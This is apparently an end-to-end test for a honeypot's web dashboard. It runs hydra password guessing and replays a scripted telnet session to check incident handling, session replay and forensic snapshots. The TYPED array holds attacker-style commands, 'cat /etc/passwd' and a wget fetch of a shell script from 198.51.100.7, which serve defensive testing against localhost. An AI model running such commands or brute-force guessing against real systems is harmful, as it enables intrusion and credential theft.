import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import type { IncidentRow } from '../../firmware/api/contract.ts';
import { claim, openTab } from './harness/browser.ts';
import type { Daemon } from './harness/daemon.ts';
import { allOver, numbered, say, startHydra } from './harness/guesses.ts';
import { openLab } from './harness/lab.ts';
import { startMailServer } from './harness/mailbox.ts';
import { until } from './harness/until.ts';

const lab = openLab();
const PAGE = 'http://127.0.0.1:8080/';
const TYPED = ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.7/x.sh', 'exit'];

const config = (mail: number): string => `
[device]
name = "closet"
[alerts.email]
host = "127.0.0.1"
port = ${mail}
security = "none"
to = ["owner@example.test"]
[sensors.telnet]
product = "busybox"
let_in = "always"
`;

/** The page of one thing, opened by its address in the same tab. */
async function show(page: Page, hash: string): Promise<void> {
  await page.evaluate((wanted) => location.assign(wanted), hash);
}

/** hydra's guesses appear on the page while it guesses, in order and each once. */
async function watchLive(page: Page, daemon: Daemon): Promise<void> {
  const hydra = startHydra(lab, numbered(20, 'live'));
  await page.getByText('tried live3 / secret 3').first().waitFor();
  await hydra.ended;
  await allOver(daemon);
  const stored = daemon.evidence.rows<{ id: number }>('SELECT id FROM event ORDER BY id DESC').map(({ id }) => id);
  await page.locator(`[data-testid=event][data-id="${stored[0]}"]`).waitFor();
  const shown = await page
    .getByTestId('event')
    .evaluateAll((rows) => rows.map((row) => Number(row.getAttribute('data-id'))));
  expect(shown).toEqual(stored);
}

/** Opens the incident from the list, by the keyboard alone. */
async function openIncident(page: Page): Promise<void> {
  await page.locator('[data-page=incidents]').click();
  await page.getByTestId('row').first().waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('Enter');
  await page
    .getByTestId('incident-sentence')
    .filter({ hasText: /^127\.0\.0\.1, .*telnet/ })
    .waitFor();
}

const incidentOf = async (daemon: Daemon): Promise<IncidentRow> =>
  JSON.parse(await daemon.ask('/api/v1/incidents/1')) as IncidentRow;

async function seeToIt(page: Page, daemon: Daemon): Promise<void> {
  await page.getByRole('button', { name: 'I have seen to it' }).click();
  await page.locator('[data-testid=acknowledge][data-done=true]').waitFor();
  await page.getByTestId('note').getByRole('textbox').fill('the scanner of <b>Anna</b>');
  await page.getByRole('button', { name: 'Save the note' }).click();
  await page.getByText('Saved').waitFor();
  const incident = await incidentOf(daemon);
  expect(incident.acknowledgedAt).not.toBeNull();
  expect(incident.note).toBe('the scanner of <b>Anna</b>');
}

/** What the preview says is what the evidence has; once the rule is made, nobody is told of its like. */
async function ignore(page: Page, daemon: Daemon, mails: () => number): Promise<void> {
  const form = page.getByTestId('ignore');
  await form.locator('summary').click();
  await form.locator('[name=sensor]').selectOption('');
  await form.locator('[name=grade]').selectOption('commands');
  await form.locator('[data-testid=preview][data-state=loaded]').waitFor();
  expect(await form.getByTestId('preview').textContent()).toMatch(/1 incident/);
  await form.getByRole('button').last().click();
  await page.getByTestId('ignore-made').waitFor();
  const told = mails();
  await say(lab, 10_021, 'USER again\r\nPASS again\r\nQUIT\r\n');
  await until('the ignored log-in', async () => ((await incidentOf(daemon)).ignored?.events ?? 0) > 0);
  expect(mails()).toBe(told);
}

/** The shell's session is replayed as it was typed. */
async function replay(page: Page, daemon: Daemon): Promise<void> {
  const session = daemon.evidence.value(`SELECT max(session_id) FROM v_commands`);
  await show(page, `#/sessions/${String(session)}`);
  const terminal = page.getByTestId('terminal');
  await terminal.getByText('uname -a').first().waitFor();
  for (const line of TYPED.slice(0, 3)) expect(await terminal.textContent()).toContain(line);
  // It begins anew, and what was typed seconds later comes seconds later.
  await page.getByTestId('skip-pauses').uncheck();
  await page.getByTestId('play').click();
  await page.locator('[data-testid=replay][data-playing=true]').waitFor();
  await page.locator('[data-testid=replay][data-playing=false]').waitFor();
  expect(await terminal.textContent()).toContain('wget http://198.51.100.7/x.sh');
}

/** The file that the browser saved has the hash that the page told, and is a whole database. */
async function snapshot(page: Page): Promise<void> {
  await show(page, '#/forensics');
  await page.getByTestId('make-snapshot').click();
  await page.locator('[data-testid=snapshot][data-state=ready]').waitFor();
  const told = /SHA-256([0-9a-f]{64})/.exec((await page.getByTestId('snapshot').textContent()) ?? '')?.[1];
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download').click()]);
  const file = await download.path();
  expect(createHash('sha256').update(readFileSync(file)).digest('hex')).toBe(told);
  const checked = await lab.run(['sqlite3', file, 'PRAGMA integrity_check; SELECT count(*) > 0 FROM incident;']);
  expect(checked.stdout).toBe('ok\n1\n');
}

it('an owner’s first hour: live, an incident seen to, replayed, ignored, saved', async () => {
  const mailbox = await startMailServer(lab);
  const daemon = await lab.daemon({ config: config(mailbox.port) });
  const { page, complaints } = await openTab(lab, PAGE);
  await claim(page, daemon.data);
  await watchLive(page, daemon);
  const typing = ['root', 'secret', ...TYPED].map((line) => `sleep 1; printf '%s\\r\\n' '${line}'`).join('; ');
  const shell = lab.start(['sh', '-c', `(${typing}) | nc -N 127.0.0.1 10023`]);
  await shell.ended;
  await allOver(daemon);
  await openIncident(page);
  await seeToIt(page, daemon);
  await ignore(page, daemon, () => mailbox.mails().length);
  await replay(page, daemon);
  await snapshot(page);
  expect(complaints).toEqual([]);
  expect(await daemon.stop()).toBe(0);
});
